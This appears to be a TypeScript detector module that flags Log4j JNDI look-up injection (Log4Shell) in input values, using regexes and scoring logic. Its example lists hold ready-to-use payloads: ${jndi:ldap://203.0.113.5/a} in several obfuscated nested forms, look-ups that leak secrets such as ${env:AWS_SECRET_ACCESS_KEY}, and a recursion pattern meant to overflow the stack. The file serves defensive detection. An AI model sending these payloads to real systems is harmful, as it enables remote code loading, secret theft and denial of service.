import { type Lookup, lookupGrammar } from '../../grammars/template/lookup.ts';
import { confidence } from '../../placement/confidence.ts';
import { strongest } from '../../placement/evidence.ts';
import { isWord } from '../../text/char-class.ts';
import { wordList } from '../../text/words.ts';
import type { ValueRule } from '../rule.ts';

/** `${jndi:ldap://…}` and all that Log4j makes into it. */
export const lookup: ValueRule = {
  id: 'jndi.lookup',
  score: confidence.certain,
  message: 'is a JNDI look-up once a logger has resolved what is nested in it',
  trigger: { literals: [['{'], ['jndi', ':-', 'lower:', 'upper:', 'date:']] },
  judge: (subject) => {
    const reading = subject.tokens(lookupGrammar);
    if (!reading.complete) subject.incomplete('tokens');
    return strongest(reading.lookups, (one) => {
      const at = one.resolved.indexOf('jndi:');
      if (at < 0) return 0;
      // The prefix of the look-up, or of one nested in it.
      const target = one.resolved.slice(at + 5).trimStart();
      const isStart = at === 0 || !isWord(one.resolved.charCodeAt(at - 1));
      return isStart ? scoreOf(target, one.inner > 0) : confidence.hint;
    });
  },
  examples: [
    ...['${jndi:ldap://203.0.113.5/a}', '${${env:X:-j}ndi${env:X:-:}${env:X:-d}ns://203.0.113.5}'],
    ...['Mozilla/5.0 ${${lower:j}ndi:${lower:r}mi://203.0.113.5/a}', '${jndi:ldap://203.0.113.5/a'],
    '${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://203.0.113.5/a}',
    ...['${jnd${upper:\u0131}:ldap://203.0.113.5/a}', "${${date:'j'}ndi:iiop://203.0.113.5/a}"],
    ...['${${lower:${upper:${lower:j}}}ndi:ldap://203.0.113.5/a}', '{jnDi:ldap://203.0.113.5/a}'],
    '{${upper:j}ndi:${lower:l}dap:${sys:file.separator}/203.0.113.5/a}',
    '${jndi${sys:path.separator}rmi:${sys:file.separator}/203.0.113.5/a}',
  ],
  lookalikes: [
    ...['${name} has ${count} messages', 'echo ${HOME:-/root} ${LANG:-C}', '${user.name:-guest}'],
    ...['{jndi} is {count} letters, {lower:upper}', '{date:"2026-01-01",lower:1}'],
    ...['A JNDI look-up begins with jndi: and a URL.', '`${date:YYYY}-${lower:x}`'],
    'What is ${jndi:ldap://...} in my logs? Am I hacked?',
    'The hole was about ${jndi:...} look-ups; please upgrade.',
  ],
};

function scoreOf(target: string, isNested: boolean): number {
  if (ellipsis.test(target)) return confidence.trace;
  return isNested || target !== '' ? confidence.certain : confidence.hint;
}

/** Texts about look-ups name no host. */
const ellipsis = /^(?:[a-z]{3,6}:(?:\/\/)?)?(?:\.{3}|…)$/;

/** Look-ups that spell a word letter by letter: only what hides the word is written so. */
export const nestedLookup: ValueRule = {
  id: 'jndi.nested-lookup',
  severity: 'high',
  score: confidence.strong,
  message: 'spells a protocol letter by letter with nested look-ups of a logger',
  trigger: { literals: [['${'], ['::-', 'lower:', 'upper:', 'env:', 'sys:', 'date:', ':-']] },
  judge: (subject) => {
    for (const one of subject.tokens(lookupGrammar).lookups) {
      const isEvidence =
        one.isTooDeep ||
        (one.inner >= 2 && (isHidden(subject.text, one) || isNameless(subject.text, one)));
      if (!isEvidence) continue;
      return { start: one.start, end: one.end };
    }
    return undefined;
  },
  examples: [
    ...['${${::-j}${::-n}${::-d}${::-i}${x}:ldap://203.0.113.5/a}', '${${::-${::-$${::-x}}}}'],
    '${${lower:j}${lower:n}${foo}di:${lower:d}ns://203.0.113.5/}',
  ],
  lookalikes: [
    ...['${a:-${b:-${c:-default}}}', '${prefix}${env:HOME}/${env:USER}', '${${type}.${name}.url}'],
  ],
};

/** A URL behind a prefix of which single letters are look-ups. */
function isHidden(text: string, lookup: Lookup): boolean {
  if (!lookup.resolved.includes('://')) return false;
  const source = text.slice(lookup.start, Math.min(lookup.end, lookup.start + 600));
  let letters = 0;
  for (const _ of source.matchAll(singleLetter)) letters++;
  return letters >= 2;
}

/** Look-ups without a name inside each other: the recursion that ends in a stack overflow. */
function isNameless(text: string, lookup: Lookup): boolean {
  const source = text.slice(lookup.start, Math.min(lookup.end, lookup.start + 600));
  return source.split('${::-', 4).length > 2;
}

const singleLetter = /(?::-|lower:|upper:|date:')[a-z:/]{1,2}'?\}/gi;

/** `${env:AWS_SECRET_ACCESS_KEY}`, `${sys:java.version}`: look-ups that make a logger tell. */
export const secretLookup: ValueRule = {
  id: 'jndi.secret-lookup',
  cwe: 'CWE-200',
  severity: 'medium',
  score: confidence.likely,
  message: 'asks a logger for what only the server knows, in a place that the sender can read',
  trigger: {
    literals: [
      wordList(
        '${env: ${sys: ${java: ${hostname} ${docker: ${k8s: ${spring: ${bundle: ${main:',
        '${web: ${log4j: ${ctx: ${jvmrunargs:',
      ),
    ],
  },
  judge: (subject) => {
    const { text } = subject;
    for (const one of subject.tokens(lookupGrammar).lookups) {
      const source = text.slice(one.start, Math.min(one.end, one.start + 120));
      if (!secret.test(source)) continue;
      const isUrl = text.slice(Math.max(0, one.start - 40), one.start).includes('//');
      return {
        start: one.start,
        end: one.end,
        score: isUrl ? confidence.strong : text.length < 80 ? confidence.likely : confidence.trace,
      };
    }
    return undefined;
  },
  examples: [
    ...['${env:AWS_SECRET_ACCESS_KEY}', '${sys:java.version}', '${java:runtime}', '${ctx:loginId}'],
    'http://${hostName}.files.example.net/',
  ],
  lookalikes: [
    ...['${env:HOME}', '${hostname}', '${env.BUILD_ID}'],
    'serverless reads ${env:STAGE} and ${self:custom.x}',
  ],
};

const secret =
  /^\$\{(?:env:[A-Z0-9_]{0,40}(?:SECRET|PASS|TOKEN|KEY|CREDENTIAL)|sys:(?:java|user|os|sun)\.|java:(?:version|runtime|vm|os|hw|locale)|hostName\}|docker:container|k8s:|spring:|bundle:|web:(?:rootDir|servletContext)|log4j:config|ctx:\w|jvmrunargs:)/;
